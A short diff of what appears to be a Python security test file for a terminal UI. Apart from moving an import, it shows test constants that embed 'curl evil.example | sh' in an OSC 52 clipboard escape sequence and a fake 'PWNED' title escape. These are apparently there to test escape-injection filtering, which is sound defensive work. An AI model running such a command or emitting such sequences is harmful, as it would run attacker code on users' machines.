@@ -14,9 +14,9 @@ import subprocess
 import sys
 
 import pytest
+from tmux_terminal import APP
 
 from mentor_tui.core.text import printable
-from security.tmux_terminal import APP
 
 CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
 TITLE = "\x1b]0;PWNED-TITLE\x07"
